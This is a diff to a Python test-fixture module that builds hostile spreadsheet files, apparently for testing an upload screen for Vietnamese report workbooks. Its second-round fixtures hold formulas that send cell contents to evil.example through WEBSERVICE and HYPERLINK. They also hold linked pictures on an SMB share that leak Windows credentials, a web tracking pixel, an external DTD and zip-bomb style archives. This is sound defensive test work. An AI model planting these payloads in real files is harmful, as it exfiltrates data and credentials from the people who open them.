@@ -137,16 +137,21 @@ INTERNAL_FORMULA = ("C7", "D7+E7+F7", "5")  # stays a formula: it reaches nothin
 EXTERNAL_LINK_TARGET = "file:///C:/bao-cao/nguon-ngoai.xlsx"
 
 
+def with_formulas(xml: str, formulas: dict[str, tuple[str, str]]) -> str:
+    """A sheet's XML whose cells (of the template's row 7) hold these formulas with their cached values."""
+    for cell, (formula, value) in formulas.items():
+        xml, n = re.subn(rf'<c r="{cell}" s="(\d+)"><v>[^<]*</v></c>',
+                         rf'<c r="{cell}" s="\1"><f>{formula}</f><v>{value}</v></c>', xml)
+        assert n == 1, cell
+    return xml
+
+
 def external_formulas(src: Path, dst: Path) -> Path:
     """Phước An's report whose Biểu mẫu 1 row 7 holds formulas that reach outside the workbook
     (with their cached values, as Excel saves them), one that does not, and the external link
     that "[1]" stands for, with a defined name pointing there."""
     def sheet(xml: str) -> str:
-        for cell, (formula, value) in {**EXTERNAL_FORMULAS, INTERNAL_FORMULA[0]: INTERNAL_FORMULA[1:]}.items():
-            xml, n = re.subn(rf'<c r="{cell}" s="(\d+)"><v>[^<]*</v></c>',
-                             rf'<c r="{cell}" s="\1"><f>{formula}</f><v>{value}</v></c>', xml)
-            assert n == 1, cell
-        return xml
+        return with_formulas(xml, {**EXTERNAL_FORMULAS, INTERNAL_FORMULA[0]: INTERNAL_FORMULA[1:]})
 
     def workbook(xml: str) -> str:
         name = '<definedName name="Ngoai">[1]Sheet1!$A$1</definedName>'
@@ -183,11 +188,16 @@ def external_formulas(src: Path, dst: Path) -> Path:
 
 
 def amplified_shared_string(dst: Path, chars: int = 1_000_000, rows: int = 200, cols: int = 60) -> Path:
-    """A ~100 KB workbook whose 12,000 cells all show one ~1 MB shared string (old-encoding-like
-    Latin-1 text, which the legacy-encoding test reads character by character)."""
+    """A ~170 KB workbook whose 12,000 cells all show one ~1 MB shared string (old-encoding-like
+    Latin-1 text, which the legacy-encoding test reads character by character). The words come in
+    random order: a string repeating one phrase compresses ~1000×, and is refused as a zip bomb."""
+    import random
+
     from openpyxl.utils import get_column_letter
 
-    text = ("Phöôùc Sôn ñaõ " * (chars // 15 + 1))[:chars]
+    rng = random.Random(0)
+    words = ["Phöôùc", "Sôn", "ñaõ", "Hieäp", "Hoøa", "Loäc", "Nghóa", "Quang", "Thaønh", "Thuaän", "xaõ"]
+    text = " ".join(rng.choice(words) for _ in range(chars // 4))[:chars]
     cells = "".join(
         f'<row r="{r}">' + "".join(f'<c r="{get_column_letter(c)}{r}" t="s"><v>0</v></c>' for c in range(1, cols + 1)) + "</row>"
         for r in range(1, rows + 1)
@@ -225,6 +235,181 @@ def amplified_shared_string(dst: Path, chars: int = 1_000_000, rows: int = 200, 
             f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{main}" count="{rows * cols}" uniqueCount="1">'
             f"<si><t>{text}</t></si></sst>"
         ),
+    }
+    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name, data in parts.items():
+            zf.writestr(name, data.encode("utf-8"))
+    return dst
+
+
+# Second round (issue 21): hostile content the first screens did not see ---------------------
+
+UTF16_FORMULAS = {  # cell of Biểu mẫu 1 → (formula as the sheet's XML writes it, its cached value)
+    "G7": ('HYPERLINK("http://evil.example/?q="&amp;B7,5)', "5"),
+    "J7": ('_xlfn.WEBSERVICE("http://evil.example/?"&amp;C7)', "4"),
+}
+
+
+def as_utf16(xml: str) -> bytes:
+    """A part as some tools save it: UTF-16 with a byte-order mark, its XML declaration saying so."""
+    xml = xml.replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
+    return ("\ufeff" + xml).encode("utf-16-le")
+
+
+def utf16_external_formulas(src: Path, dst: Path) -> Path:
+    """Phước An's report whose Biểu mẫu 1 is stored as UTF-16, with formulas that reach outside."""
+    return rewrite(src, dst, {SHEET1: lambda x: as_utf16(with_formulas(x, UTF16_FORMULAS))})
+
+
+EXTERNAL_CF = 'LEN(_xlfn.WEBSERVICE("http://evil.example/?"&amp;C7))&gt;0'
+INTERNAL_CF = "C7&lt;0"
+EXTERNAL_LIST = "[1]Sheet1!$A$1:$A$9"
+
+
+def external_rules(src: Path, dst: Path) -> Path:
+    """Biểu mẫu 1 with a conditional format that calls WEBSERVICE for each figure, one that stays inside
+    the workbook, and a drop-down list (data validation) taken from another workbook."""
+    def sheet(xml: str) -> str:
+        rules = ('<conditionalFormatting sqref="C7:J7"><cfRule type="expression" priority="1">'
+                 f"<formula>{EXTERNAL_CF}</formula></cfRule></conditionalFormatting>"
+                 '<conditionalFormatting sqref="C7:F7"><cfRule type="expression" priority="2">'
+                 f"<formula>{INTERNAL_CF}</formula></cfRule></conditionalFormatting>")
+        xml = xml.replace("<dataValidations", rules + "<dataValidations", 1)
+        listed = (f'<dataValidation type="list" allowBlank="1" sqref="B8"><formula1>{EXTERNAL_LIST}</formula1>'
+                  "</dataValidation>")
+        xml = xml.replace('<dataValidations count="1">', '<dataValidations count="2">', 1)
+        return xml.replace("</dataValidations>", listed + "</dataValidations>", 1)
+    return rewrite(src, dst, {SHEET1: sheet})
+
+
+SMB_PICTURE = "file://///may-chu-la/chia-se/logo.png"
+SMB_LINK = "\\\\may-chu-la\\chia-se\\bao-cao.xlsx"
+WEB_PICTURE = "http://evil.example/pixel.png"
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
+
+
+def _picture(rid: str, n: int) -> str:
+    return (f'<xdr:twoCellAnchor><xdr:from><xdr:col>{n}</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>9</xdr:row>'
+            f'<xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>{n + 1}</xdr:col><xdr:colOff>0</xdr:colOff>'
+            '<xdr:row>12</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to><xdr:pic><xdr:nvPicPr>'
+            f'<xdr:cNvPr id="{n + 2}" name="Ảnh {n}"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill>'
+            f'<a:blip r:link="{rid}"/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill><xdr:spPr>'
+            '<a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="571500"/></a:xfrm><a:prstGeom prst="rect">'
+            "<a:avLst/></a:prstGeom></xdr:spPr></xdr:pic><xdr:clientData/></xdr:twoCellAnchor>")
+
+
+def external_links(src: Path, dst: Path) -> Path:
+    """Biểu mẫu 1 with two linked (not embedded) pictures, one on a network share (file://///…, which
+    Windows opens over SMB, sending the user's credentials) and one on a web server, and a hyperlink
+    to a network share in cell B8."""
+    def sheet(xml: str) -> str:
+        xml = xml.replace("<pageMargins", '<hyperlinks><hyperlink ref="B8" r:id="rId92"/></hyperlinks><pageMargins', 1)
+        return xml.replace("</worksheet>", '<drawing r:id="rId91"/></worksheet>', 1)
+
+    def types(xml: str) -> str:
+        return xml.replace("</Types>", '<Override PartName="/xl/drawings/drawing1.xml" ContentType='
+                           '"application/vnd.openxmlformats-officedocument.drawing+xml"/></Types>')
+
+    sheet_rels = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{PKG_REL}">'
+                  f'<Relationship Id="rId91" Type="{REL}/drawing" Target="../drawings/drawing1.xml"/>'
+                  f'<Relationship Id="rId92" Type="{REL}/hyperlink" Target="{SMB_LINK}" TargetMode="External"/>'
+                  "</Relationships>")
+    drawing = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<xdr:wsDr xmlns:xdr="http://schemas.'
+               'openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/'
+               f'drawingml/2006/main" xmlns:r="{REL}">{_picture("rId1", 1)}{_picture("rId2", 4)}</xdr:wsDr>')
+    drawing_rels = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{PKG_REL}">'
+                    f'<Relationship Id="rId1" Type="{REL}/image" Target="{SMB_PICTURE}" TargetMode="External"/>'
+                    f'<Relationship Id="rId2" Type="{REL}/image" Target="{WEB_PICTURE}" TargetMode="External"/>'
+                    "</Relationships>")
+    rewrite(src, dst, {SHEET1: sheet, "[Content_Types].xml": types})
+    with zipfile.ZipFile(dst, "a", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("xl/worksheets/_rels/sheet1.xml.rels", sheet_rels)
+        zf.writestr("xl/drawings/drawing1.xml", drawing)
+        zf.writestr("xl/drawings/_rels/drawing1.xml.rels", drawing_rels)
+    return dst
+
+
+EXTERNAL_DTD = "http://evil.example/bao-cao.dtd"
+
+
+def external_dtd(src: Path, dst: Path, part: str) -> Path:
+    """A part that names an external DTD (no entity: nothing for the entity screens to refuse); a reader
+    that fetches DTDs calls the address when the file is opened."""
+    def inject(xml: str) -> str:
+        body = xml[xml.find("?>") + 2:]
+        root = re.search(r"<([\w:]+)[\s/>]", body).group(1)
+        return xml.replace("?>", f'?><!DOCTYPE {root} SYSTEM "{EXTERNAL_DTD}">', 1)
+    return rewrite(src, dst, {part: inject})
+
+
+def inflating(dst: Path, parts: int, part_bytes: int, ratio: float) -> Path:
+    """A .xlsx whose ``parts`` sheets each inflate to ``part_bytes`` of zeros, compressed about ``ratio``
+    times: each megabyte starts with random bytes (which do not compress) and the rest is zeros (~1000×)."""
+    import os
+
+    size = 1 << 20
+    noise = max(0, int(size / ratio - size / 1030))
+    chunk = os.urandom(noise) + bytes(size - noise)
+    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
+        zf.writestr("xl/workbook.xml", "<workbook/>")
+        for n in range(1, parts + 1):
+            with zf.open(f"xl/worksheets/sheet{n}.xml", "w", force_zip64=True) as part:
+                left = part_bytes
+                while left > 0:
+                    part.write(chunk[:left])
+                    left -= len(chunk)
+    return dst
+
+
+def real_sized(dst: Path, megabytes: float = 9, seed: int = 21) -> Path:
+    """A real-sized workbook of about ``megabytes`` on disk: one sheet of many rows, each a Vietnamese
+    name and eleven figures (random, as real figures are), written as Excel writes its XML."""
+    import random
+
+    from openpyxl.utils import get_column_letter
+
+    rng = random.Random(seed)
+    words = "Xã Phước An Sơn Hiệp Hòa Hưng Lộc Nghĩa Quang Thành Thuận lao động doanh nghiệp".split()
+    rows = int(megabytes * 12_000)  # ~85 bytes a row once compressed
+    letters = [get_column_letter(c) for c in range(1, 13)]
+    body = "".join(
+        f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>{" ".join(rng.choices(words, k=4))} {r}</t></is></c>'
+        + "".join(f'<c r="{col}{r}" s="1"><v>{rng.randint(0, 99_999)}</v></c>' for col in letters[1:])
+        + "</row>"
+        for r in range(1, rows + 1))
+    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    xml = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+    parts = {
+        "[Content_Types].xml": (
+            f'{xml}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+            '<Default Extension="xml" ContentType="application/xml"/>'
+            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
+            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
+            '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
+            "</Types>"),
+        "_rels/.rels": (
+            f'{xml}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
+        "xl/workbook.xml": (
+            f'{xml}<workbook xmlns="{main}" xmlns:r="{rel}">'
+            '<sheets><sheet name="Số liệu chi tiết" sheetId="1" r:id="rId1"/></sheets></workbook>'),
+        "xl/_rels/workbook.xml.rels": (
+            f'{xml}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/>'
+            f'<Relationship Id="rId2" Type="{rel}/styles" Target="styles.xml"/></Relationships>'),
+        "xl/styles.xml": (
+            f'{xml}<styleSheet xmlns="{main}"><numFmts count="0"/><fonts count="1"><font><sz val="11"/>'
+            '<name val="Calibri"/></font></fonts><fills count="2"><fill><patternFill patternType="none"/></fill>'
+            '<fill><patternFill patternType="gray125"/></fill></fills><borders count="1"><border/></borders>'
+            '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
+            '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
+            '<xf numFmtId="3" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
+            '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>'),
+        "xl/worksheets/sheet1.xml": (
+            f'{xml}<worksheet xmlns="{main}"><dimension ref="A1:L{rows}"/><sheetData>{body}</sheetData></worksheet>'),
     }
     with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zf:
         for name, data in parts.items():
